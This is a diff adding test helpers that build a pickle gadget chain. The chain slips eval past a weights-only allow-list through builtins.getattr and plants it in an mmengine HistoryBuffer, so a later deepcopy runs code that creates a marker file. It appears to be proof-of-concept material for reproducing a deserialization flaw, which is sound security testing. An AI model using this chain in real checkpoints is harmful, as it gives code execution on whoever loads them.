@@ -61,3 +61,35 @@ def snapshot(folder: Path) -> dict[str, bytes]:
     """Every file under ``folder`` with its bytes: compare before and after a failed run."""
     return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*"))
             if p.is_file()}
+
+
+class _Getattr:
+    """Pickles to ``getattr(obj, name)``: the reduce a weights-only allow-list holding
+    ``builtins.getattr`` lets through."""
+
+    def __init__(self, obj, name: str):
+        self.obj, self.name = obj, name
+
+    def __reduce__(self):
+        return getattr, (self.obj, self.name)
+
+
+class _Rebuilt:
+    """Pickles to ``cls()`` then its state (``__setstate__`` or ``__dict__.update``)."""
+
+    def __init__(self, cls, state: dict):
+        self.cls, self.state = cls, state
+
+    def __reduce__(self):
+        return self.cls, (), self.state
+
+
+def getattr_gadget(marker: Path, carrier):
+    """An object whose unpickling fetches ``eval`` through getattr alone (``getattr.__self__``
+    is the builtins module) and plants it in a ``carrier()`` (an allow-listed class, here
+    mmengine's HistoryBuffer) as its ``__reduce_ex__``: ``{4: (eval, (CODE,))}.get``. Whoever
+    then copies the object (``copy.deepcopy``, as mmengine's MessageHub.load_state_dict does
+    with the resumed runtime info) runs CODE, which creates ``marker``."""
+    evaluate = _Getattr(_Getattr(getattr, "__self__"), "eval")
+    code = f"open({str(marker)!r}, 'w').close()"
+    return _Rebuilt(carrier, {"__reduce_ex__": _Getattr({4: (evaluate, (code,))}, "get")})
